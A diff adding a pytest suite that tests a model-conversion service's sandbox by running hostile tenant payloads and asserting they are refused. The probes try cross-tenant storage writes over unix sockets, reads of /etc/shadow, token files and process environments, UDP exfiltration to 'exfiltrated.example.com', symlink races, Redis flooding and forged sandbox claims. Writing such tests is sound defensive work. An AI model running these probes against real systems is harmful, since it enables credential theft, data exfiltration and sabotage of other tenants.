@@ -1,0 +1,441 @@
+"""A hostile model reaches nothing but its own job (DESIGN.md §6), tried as an attacker would.
+
+Each way out a tenant's model once had is tried again from inside a real job, through the
+real stack: an authenticated API, Redis, a Celery worker and its warm sandbox, SeaweedFS with
+its unix sockets. Every test runs in two worker modes: with all capabilities, and with
+CAP_SYS_ADMIN dropped from the worker's bounding set (`setpriv`), as in a Kubernetes pod,
+where the sandbox gets no network namespace. Each asserts that the probe was refused and that
+the next job of another tenant (bob) then converts in normal time.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+import socket
+import textwrap
+import threading
+import time
+import uuid
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+
+from fxport.client import Client
+from fxport.service.auth import new_token, token_entry
+from tests.fixtures.servers import (
+    ManagedProcess, distributed_env, pool_children, start_api, start_worker, wait_until,
+)
+from tests.security.hostile import PACKAGE_SPEC, hostile_package, payload
+
+pytestmark = pytest.mark.slow
+
+MODES = {"full capabilities": [], "no CAP_SYS_ADMIN": ["setpriv", "--bounding-set", "-sys_admin", "--"]}
+SECRET = f"worker-only-{uuid.uuid4().hex}"
+WAIT_S = 240
+
+
+@dataclass
+class IsolationStack:
+    mode: str
+    api_address: str
+    worker: ManagedProcess
+    env: dict[str, str]
+    base: Path
+    tokens: dict[str, str]
+    redis_url: str
+    s3: object
+    processes: list[ManagedProcess] = field(default_factory=list)
+    clients: list[Client] = field(default_factory=list)
+    bob_model: Path | None = None
+    normal_s: float = 0.0  # bob's tiny job, measured once the worker is warm
+
+    def client(self, tenant: str) -> Client:
+        return Client(self.api_address, token=self.tokens[tenant])
+
+    def submit(self, tenant: str, model: Path, spec: dict | None = None):  # noqa: ANN201 - a client Job
+        """Submit and return the job at once; its client stays open until the stack stops."""
+        client = self.client(tenant)
+        self.clients.append(client)
+        return client.submit(model, spec or PACKAGE_SPEC, idempotency_key=uuid.uuid4().hex)
+
+    def run(self, tenant: str, model: Path, spec: dict | None = None):  # noqa: ANN201
+        with self.client(tenant) as c:
+            job = c.submit(model, spec or PACKAGE_SPEC, idempotency_key=uuid.uuid4().hex)
+            return job.wait(timeout=WAIT_S)
+
+    def bob_converts(self) -> float:
+        """Bob's ordinary job succeeds, in normal time: the probe before it left nothing behind
+        (a held lock, a wedged worker) that slows or stops another tenant's work."""
+        limit = max(60.0, 10 * self.normal_s)
+        started = time.monotonic()
+        with self.client("bob") as c:
+            job = c.submit(self.bob_model, {**PACKAGE_SPEC, "limits": {"timeout_s": 120}},
+                           idempotency_key=uuid.uuid4().hex).wait(timeout=limit)
+        took = time.monotonic() - started
+        assert job.state == "SUCCEEDED", (job.state, job.error, self.logs())
+        assert took < limit, f"bob's job took {took:.1f} s, normally {self.normal_s:.1f} s"
+        return took
+
+    def objects(self, prefix: str) -> dict[str, bytes]:
+        """Every object under `prefix` (of this stack's store), with its bytes."""
+        client = self.s3.client()
+        root = self.env["FXPORT_STORE"].split("/", 3)[3]
+        out = {}
+        for page in client.get_paginator("list_objects_v2").paginate(Bucket=self.s3.bucket, Prefix=f"{root}/{prefix}"):
+            for obj in page.get("Contents", []):
+                try:
+                    out[obj["Key"]] = client.get_object(Bucket=self.s3.bucket, Key=obj["Key"])["Body"].read()
+                except client.exceptions.NoSuchKey:
+                    continue
+        return out
+
+    def logs(self) -> str:
+        from tests.fixtures.servers import tail
+
+        return "\n".join(f"== {p.name} ==\n{tail(p.log)}" for p in [self.worker, *self.processes])
+
+
+@pytest.fixture(scope="module", params=list(MODES))
+def iso(request, tmp_path_factory, redis_server, s3_server) -> IsolationStack:
+    mode = request.param
+    if MODES[mode] and shutil.which("setpriv") is None:
+        pytest.skip("setpriv (util-linux) is not installed")
+    base = tmp_path_factory.mktemp("isolation")
+    db = 1 + list(MODES).index(mode)  # each mode's own queue and job store
+    tokens = {t: new_token() for t in ("alice", "bob")}
+    tokens_file = base / "tokens"
+    tokens_file.write_text("".join(token_entry(t, tok) + "\n" for t, tok in tokens.items()))
+    redis_url = f"redis://127.0.0.1:{redis_server.port}/{db}"
+    env = {**distributed_env(redis_server, s3_server, base, prefix=f"iso{db}"), "FXPORT_BROKER_URL": redis_url,
+           "FXPORT_TOKENS_FILE": str(tokens_file), "FXPORT_EARLY_UPLOAD": "true"}
+    api = start_api(base, env, name=f"iso-api-{db}")
+    worker = start_worker(base, env, "cpu", concurrency=1, name=f"iso-worker-{db}", prefix=MODES[mode])
+    stack = IsolationStack(mode, api.address, worker, env, base, tokens, redis_url, s3_server, [api.process])
+    try:
+        stack.bob_model = hostile_package(base, f"bob_model_{db}", "pass")  # an ordinary model
+        stack.run("bob", stack.bob_model)  # the first job after the zygote starts: not a measure
+        started = time.monotonic()
+        assert stack.run("bob", stack.bob_model).state == "SUCCEEDED", stack.logs()
+        stack.normal_s = time.monotonic() - started
+        yield stack
+    finally:
+        for client in stack.clients:
+            client.close()
+        worker.stop()
+        for p in stack.processes:
+            p.stop()
+
+
+def error_text(job) -> str:  # noqa: ANN001
+    return f"{job.error['message']}\n{job.error.get('detail') or ''}"
+
+
+def run_probe(iso: IsolationStack, name: str, body: str, spec: dict | None = None):  # noqa: ANN201
+    model = hostile_package(iso.base, f"{name}_{uuid.uuid4().hex[:6]}", body)
+    job = iso.run("alice", model, spec)
+    assert job.terminal, job.state
+    return job
+
+
+# ------------------------------------------------------------------ 1. pathname unix sockets
+
+
+def test_no_unix_socket_reaches_the_object_store(iso: IsolationStack):
+    """SeaweedFS keeps unix sockets for its filer and S3 gateway; any socket file on the host
+    was reachable. Now no socket of any family can be made at all."""
+    sockets = [str(p) for p in (Path(iso.s3.base) / "tmp").glob("*.sock")] + [str(p) for p in Path("/tmp").glob(
+        "seaweedfs-*.sock")]
+    assert sockets, "SeaweedFS made no unix socket to try"
+    root = iso.env["FXPORT_STORE"].split("/", 3)[3]
+    target = f"/{iso.s3.bucket}/{root}/bob/inputs/planted-by-alice"
+    job = run_probe(iso, "unix_sockets", payload(textwrap.dedent(f"""
+        for path in {sockets!r}:
+            try:
+                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+                s.connect(path)
+                s.sendall(b"PUT {target} HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 6\\r\\n\\r\\npwned!")
+                report.append("CONNECTED " + path + " " + s.recv(200).decode("latin-1"))
+            except OSError as exc:
+                report.append(f"refused {{path}}: {{exc.strerror}}")
+    """)))
+    text = error_text(job)
+    assert "PAYLOAD RAN" in text and "CONNECTED" not in text, text
+    assert text.count("refused") == len(sockets) and "Operation not permitted" in text
+    assert not iso.objects("bob/inputs/planted-by-alice")
+    iso.bob_converts()
+
+
+# ------------------------------------------------------------------ 2. reads
+
+
+def test_reads_stop_at_the_job_of_its_own(iso: IsolationStack, tmp_path: Path):
+    """/etc/shadow, the tokens file, the store's raw files, the worker's /proc, the work folder,
+    and the input model of another tenant's job running at that moment: all refused."""
+    second = start_worker(iso.base, iso.env, "cpu", concurrency=1, name=f"iso-second-{uuid.uuid4().hex[:4]}",
+                          prefix=MODES[iso.mode])  # bob's job runs there while alice's runs here
+    iso.processes.append(second)
+    work = Path(iso.env["FXPORT_WORK_DIR"])
+    try:
+        waiting = hostile_package(iso.base, f"bob_waits_{uuid.uuid4().hex[:6]}", """
+            import time
+            for _ in range(600):  # until the test lets it go (a file in its own folder), at most 60 s
+                if os.path.exists("release"):
+                    break
+                time.sleep(0.1)
+        """)
+        bob = iso.submit("bob", waiting)
+        bob_dir = wait_until(lambda: next(work.glob(f"fxport-job-{bob.id}-*/fxport-sandbox-*"), None), 120,
+                             "bob's job to start")
+        bob_input = next(bob_dir.parent.glob("input/*"))
+        shadow = Path("/etc/shadow")
+        targets = [str(bob_input), str(bob_input.parent), str(work), iso.env["FXPORT_TOKENS_FILE"],
+                   str(Path(iso.s3.base) / "data"), f"/proc/{iso.worker.pid}/environ", f"/proc/{iso.worker.pid}/status",
+                   "/proc/1/cmdline", *([str(shadow)] if shadow.exists() else [])]
+        job = run_probe(iso, "reads", payload(textwrap.dedent(f"""
+            for path in {targets!r}:
+                try:
+                    if os.path.isdir(path):
+                        report.append(f"LISTED {{path}}: {{os.listdir(path)[:3]}}")
+                    else:
+                        with open(path, "rb") as f:
+                            report.append(f"READ {{path}}: {{f.read(40)!r}}")
+                except OSError as exc:
+                    report.append(f"refused {{path}}: {{exc.strerror}}")
+        """)))
+        (bob_dir / "release").write_text("")
+        assert bob.wait(timeout=WAIT_S).state == "SUCCEEDED", (bob.error, iso.logs())
+    finally:
+        second.stop()
+        iso.processes.remove(second)
+    text = error_text(job)
+    assert "PAYLOAD RAN" in text and "READ " not in text and "LISTED " not in text, text
+    assert text.count("refused") == len(targets) and "Permission denied" in text, text
+    iso.bob_converts()
+
+
+# ------------------------------------------------------------------ 3. UDP without a namespace
+
+
+def test_no_udp_leaves_with_or_without_a_network_namespace(iso: IsolationStack):
+    """Without CAP_SYS_ADMIN there is no network namespace, and Landlock's TCP rule says nothing
+    of UDP (DNS through kube-dns). The socket filter refuses the socket itself."""
+    dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # a resolver that would log the query
+    dns.bind(("127.0.0.1", 0))
+    dns.settimeout(0.5)
+    port = dns.getsockname()[1]
+    try:
+        job = run_probe(iso, "udp", payload(textwrap.dedent(f"""
+            for family, addr in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET6, ("::1", {port}))):
+                try:
+                    s = socket.socket(family, socket.SOCK_DGRAM)
+                    s.sendto(b"exfiltrated.example.com", addr)
+                    report.append(f"SENT {{addr}}")
+                except OSError as exc:
+                    report.append(f"refused {{addr}}: {{exc.strerror}}")
+            try:
+                socket.getaddrinfo("exfiltrated.example.com", 53)
+                report.append("RESOLVED")
+            except OSError as exc:
+                report.append(f"no lookup: {{exc}}")
+        """)))
+        with pytest.raises(socket.timeout):
+            dns.recvfrom(100)
+    finally:
+        dns.close()
+    text = error_text(job)
+    assert "PAYLOAD RAN" in text and "SENT" not in text and "RESOLVED" not in text, text
+    assert text.count("refused") == 2
+    iso.bob_converts()
+
+
+# ------------------------------------------------------------------ 4. links the worker would follow
+
+
+def test_the_worker_never_follows_a_link_the_child_swaps_in(iso: IsolationStack, tmp_path_factory):
+    """The child flips folders of its output between real ones and symlinks (to a folder only
+    the worker can read, and to the worker's own /proc/self) while the worker uploads early and
+    the tenant downloads what appears: nothing it gets holds the worker's file or environment."""
+    secret_dir = tmp_path_factory.mktemp("worker-only")
+    (secret_dir / "secret.txt").write_text(SECRET)
+    body = textwrap.dedent(f"""
+        import json, random, threading, time
+        out = json.load(open("request.json"))["out_dir"]
+        targets = {{"evil_secret": ({str(secret_dir)!r}, "secret.txt"), "evil_proc": ("/proc/self", "environ")}}
+        for name, (_, leaf) in targets.items():
+            os.makedirs(os.path.join(out, name), exist_ok=True)
+            with open(os.path.join(out, name, leaf), "w") as f:
+                f.write("decoy")
+        def flip():
+            while True:
+                for name, (target, _) in targets.items():
+                    real, side = os.path.join(out, name), os.path.join(out, name + ".real")
+                    try:
+                        os.rename(real, side)
+                        os.symlink(target, real)
+                        time.sleep(random.random() * 0.001)
+                        os.unlink(real)
+                        os.rename(side, real)
+                    except OSError:
+                        pass
+                time.sleep(random.random() * 0.001)
+        threading.Thread(target=flip, daemon=True).start()
+    """)
+    model = hostile_package(iso.base, f"flip_{uuid.uuid4().hex[:6]}", body)
+    job = iso.submit("alice", model, {**PACKAGE_SPEC, "targets": ["onnx", "torchscript", "exported_program"]})
+    seen: dict[str, bytes] = {}
+    prefix = f"alice/jobs/{job.id}/"
+    while not job.refresh().terminal:  # what alice downloads while her job runs
+        seen.update(iso.objects(prefix))
+        time.sleep(0.05)
+    seen.update(iso.objects(prefix))
+    secrets = [SECRET.encode(), iso.s3.secret_key.encode(), b"AWS_SECRET_ACCESS_KEY"]
+    for key, data in seen.items():
+        assert not any(s in data for s in secrets), f"{key} holds what only the worker could read"
+    assert job.state in ("SUCCEEDED", "FAILED"), job.state
+    if job.state == "FAILED":  # it stopped with a link in place: named, and nothing published
+        assert job.error["code"] == "sandbox_violation" and "symlink" in job.error["message"], job.error
+    iso.bob_converts()
+
+
+# ------------------------------------------------------------------ 5. state shared with the zygote
+
+
+def test_nothing_the_zygote_holds_is_shared_with_the_next_job(iso: IsolationStack):
+    """A child holding tqdm's lock (a semaphore in /dev/shm, once) and exiting hung the next
+    jobs' ONNX export until their wall clock. Now a child inherits no writable shared mapping
+    and no descriptor it did not open: it reports what it holds, takes every lock it can find,
+    and exits without letting go; bob's next job converts in normal time."""
+    job = run_probe(iso, "shared_state", textwrap.dedent("""
+        import builtins, json
+        names = ["tqdm"]  # the sandbox's real import, by name: torch.package allows only what it was saved with
+        tqdm = builtins.__import__(names[0])
+        shared = [l.strip() for l in open("/proc/self/maps") if l.split()[1][1] == "w" and l.split()[1][3] == "s"]
+        fds = {fd: os.readlink(f"/proc/self/fd/{fd}") for fd in os.listdir("/proc/self/fd")
+               if os.path.exists(f"/proc/self/fd/{fd}")}
+        tqdm.tqdm.get_lock().acquire()
+        print("FOUND " + json.dumps({"shared": shared, "fds": fds}), flush=True)
+        os._exit(0)
+    """))
+    assert job.state == "FAILED"
+    found = json.loads(error_text(job).split("FOUND ", 1)[1].splitlines()[0])
+    assert found["shared"] == [], found
+    # Beside stdin (/dev/null) and its log: the events FIFO and the model file, both its job's own.
+    fds = {int(k): v for k, v in found["fds"].items()}
+    assert fds[0] == "/dev/null" and all(f"fxport-job-{job.id}-" in fds[fd] for fd in fds if fd > 0), fds
+    assert any(target.endswith("/events") for target in fds.values()), fds
+    iso.bob_converts()
+
+
+# ------------------------------------------------------------------ 6. unbounded writes into shared services
+
+
+def _redis(iso: IsolationStack):  # noqa: ANN202
+    import redis
+
+    return redis.Redis.from_url(iso.redis_url)
+
+
+FIND_EVENTS = """
+events_fd = next(int(fd) for fd in os.listdir("/proc/self/fd")
+                 if os.path.exists(f"/proc/self/fd/{fd}") and os.readlink(f"/proc/self/fd/{fd}").endswith("/events"))
+"""
+
+
+@pytest.mark.parametrize("flood", ["many events", "one huge event"])
+def test_a_model_cannot_grow_redis(iso: IsolationStack, flood: str):
+    """One job grew Redis by 375 MiB in 24 s through its progress events. Now each event is
+    checked and bounded, their number per job too, the job store is written a few times a
+    second whatever the child sends, and the stream is capped and expires."""
+    r = _redis(iso)
+    before = r.info("memory")["used_memory"]
+    if flood == "many events":
+        send = """
+            stages = ["load", "capture", "passes", "quantize", "export", "verify"]
+            for i in range(30000):
+                line = json.dumps({"stage": stages[i % 6], "progress": 0.5, "message": "m" * 400}) + "\\n"
+                os.write(events_fd, line.encode())
+        """
+        why = "more than 10000 progress events"
+    else:
+        send = """
+            os.write(events_fd, b'{"stage": "load", "progress": 0.5, "message": "' + b"m" * (64 << 20))
+        """
+        why = "an event line over 4096 bytes"
+    job = run_probe(iso, "flood", "import json\n" + FIND_EVENTS + textwrap.dedent(send) + "time = __import__('time')\n"
+                    "time.sleep(60)\n")
+    assert job.state == "FAILED" and job.error["code"] == "sandbox_violation", (job.error, iso.logs())
+    assert why in job.error["message"], job.error
+    stream = f"fxport:job:{job.id}:events"
+    assert r.xlen(stream) < 100, r.xlen(stream)
+    assert 0 < r.ttl(stream) <= 7 * 24 * 3600
+    grown = r.info("memory")["used_memory"] - before
+    assert grown < 8 << 20, f"Redis grew by {grown >> 20} MiB"
+    r.close()
+    iso.bob_converts()
+
+
+# ------------------------------------------------------------------ 7. unbounded reads by the worker
+
+
+def test_a_huge_result_fails_the_job_without_the_worker_reading_it(iso: IsolationStack):
+    """A 1 GiB result.json grew the worker to 5 GB for 12 minutes. Now the worker reads at most
+    MAX_RESULT_BYTES of it and fails the job at once, naming the file and the limit."""
+    (pool,) = pool_children(iso.worker)
+    rss_before = _rss_mib(pool)
+    job = run_probe(iso, "huge_result", textwrap.dedent("""
+        import builtins
+        names = ["fxport.workers.sandbox.child"]  # the running sandbox's own module, by name (see above)
+        child = builtins.__import__(names[0], fromlist=["child"])
+        write = child._write_result
+        def sparse_gigabyte(work, result):
+            write(work, result)
+            os.truncate(work / "result.json", 1 << 30)
+        child._write_result = sparse_gigabyte
+    """))
+    assert job.state == "FAILED" and job.error["code"] == "sandbox_violation", job.error
+    assert "1024 MiB result.json, over the 17 MiB limit" in job.error["message"], job.error
+    assert _rss_mib(pool) - rss_before < 200
+    iso.bob_converts()
+
+
+def _rss_mib(pid: int) -> int:
+    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+        if line.startswith("VmRSS:"):
+            return int(line.split()[1]) >> 10
+    return 0
+
+
+# ------------------------------------------------------------------ the record of the layers
+
+
+def test_the_worker_records_the_layers_not_the_child(iso: IsolationStack, tmp_path: Path):
+    """The child once wrote the manifest's `sandbox` section itself: a model could claim layers
+    it did not have. Now the worker replaces it with what it measured (and with the child's
+    report sent before the model was opened)."""
+    job = run_probe(iso, "claims", textwrap.dedent("""
+        import builtins
+        names = ["fxport.workers.sandbox.child"]
+        child = builtins.__import__(names[0], fromlist=["child"])
+        write = child._write_result
+        def claim(work, result):
+            claimed = {"network_isolated": True, "claimed_by_model": True, "seccomp_filters": 9, "sources": {}}
+            result["sandbox"] = claimed  # where the child once reported its layers
+            if "manifest" in result:
+                result["manifest"]["sandbox"] = claimed
+            write(work, result)
+        child._write_result = claim
+    """))
+    assert job.state == "SUCCEEDED", (job.error, iso.logs())
+    with iso.client("alice") as c:
+        c.job(job.id).download(tmp_path, names=["manifest.json"])
+    box = json.loads((tmp_path / "manifest.json").read_text())["sandbox"]
+    assert "claimed_by_model" not in box
+    assert box["network_isolated"] is (not MODES[iso.mode])  # measured: no namespace without CAP_SYS_ADMIN
+    assert box["seccomp_filters"] == 1 and box["no_new_processes"] and box["sockets_blocked"]
+    assert box["filesystem_reads_confined"] and box["inherited_state_clean"] and box["capabilities_dropped"]
+    assert "network_isolated" in box["sources"]["measured_by_worker"]
+    log = iso.worker.log.read_text()
+    assert f"job {job.id}: sandbox layers: no processes, no sockets, reads confined" in log
+    iso.bob_converts()
